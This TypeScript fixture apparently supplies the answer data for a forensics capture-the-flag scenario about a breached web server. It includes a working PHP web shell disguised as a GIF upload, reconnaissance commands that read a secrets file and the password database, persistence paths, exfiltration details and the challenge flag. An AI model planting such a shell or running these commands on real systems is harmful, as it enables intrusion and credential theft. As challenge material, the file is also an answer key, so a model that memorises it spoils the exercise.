const at = (time: string) => Date.parse(`2026-11-03T${time}Z`)

/** The server: what everything is found on. */
export const server = { name: 'web-03', address: '10.8.0.21', backupUid: 1_004 }

/** The way in: a picture upload that takes a program. */
export const shell = {
  uploadedFrom: '203.0.113.148',
  uploadedAt: at('17:21:40'),
  /** On the web; on the disk it is below the public folder. */
  path: '/covers/2026/11/9c41e7.php',
  firstUsedAt: at('17:22:09'),
  source: [
    'GIF89a',
    '<?php',
    '// cover preview, do not index',
    "$q = base64_decode($_GET['q'] ?? '');",
    "if ($q !== '') { header('Content-Type: text/plain'); passthru($q); }",
    '',
  ].join('\n'),
}

/** The same address works in the shell and then tries the password that it found. */
export const operator = '198.51.100.77'
export const secretsFile = '/srv/portal/config/portal.env'
export const databasePassword = 'Heron-Lotus-1911'
export const commands = [
  'uname -a',
  'ls -la /srv/portal',
  `cat ${secretsFile}`,
  'getent passwd',
  'ls -la /home',
]

export const login = {
  account: 'backup',
  at: at('17:41:36'),
  /** Tried without success; some of them twice. */
  refused: ['root', 'admin', 'postgres', 'portal', 'www-data', 'deploy', 'librarian', 'git', 'lin.wan'],
  triedTwice: ['root', 'portal', 'deploy'],
}

/** What was left to come back by. */
export const leftBehind = {
  cron: '/etc/cron.d/logrotate-hourly',
  keys: '/home/backup/.ssh/authorized_keys',
  at: at('17:47:20'),
}

/** The way out. */
export const exfiltration = {
  receiver: '198.51.100.203',
  port: 8_085,
  startsAt: at('18:05:12'),
  passphrase: 'ferry-across-at-dawn',
  salt: Buffer.from('5a1fe0c39b7d2846', 'hex'),
  partBytes: 16_384,
  /** Refused the first time and sent again. */
  repeatedPart: 2,
  readers: 1_864,
}
export const script = {
  path: '/var/tmp/.sync.sh',
  writtenAt: at('18:01:55'),
  deletedAt: at('18:07:48'),
  flag: 'flag{unlinked_but_still_on_the_disk}',
}
